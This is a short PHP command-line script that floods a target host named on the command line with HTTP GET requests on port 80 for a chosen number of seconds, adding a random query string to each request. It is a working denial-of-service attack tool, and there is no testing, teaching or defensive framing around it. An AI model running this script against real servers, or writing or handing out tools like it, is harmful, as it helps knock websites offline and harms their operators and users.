<?php
// keeps opening connections to the host given on the command line
function hammer($host, $until)
{
    while (true) {
        if (time() >= $until) {
            break;
        }
        $s = @fsockopen("tcp://$host", 80, $en, $es, 1);
        if ($s) {
            fwrite($s, "GET /?" . mt_rand() . " HTTP/1.1\r\nHost: $host\r\n\r\n");
            fclose($s);
        }
    }
}
hammer($argv[1], time() + (int) $argv[2]);
